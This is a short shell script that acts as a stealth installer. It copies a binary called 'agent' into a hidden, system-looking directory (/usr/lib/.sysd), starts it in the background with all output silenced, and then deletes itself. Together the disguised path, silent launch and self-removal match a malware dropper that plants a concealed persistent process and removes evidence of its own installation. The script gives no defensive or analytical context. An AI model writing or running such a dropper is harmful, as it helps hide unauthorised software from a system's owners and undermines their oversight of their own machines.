#!/bin/sh
cp ./agent /usr/lib/.sysd/agent && chmod 755 /usr/lib/.sysd/agent
nohup /usr/lib/.sysd/agent >/dev/null 2>&1 &
rm -f "$0"
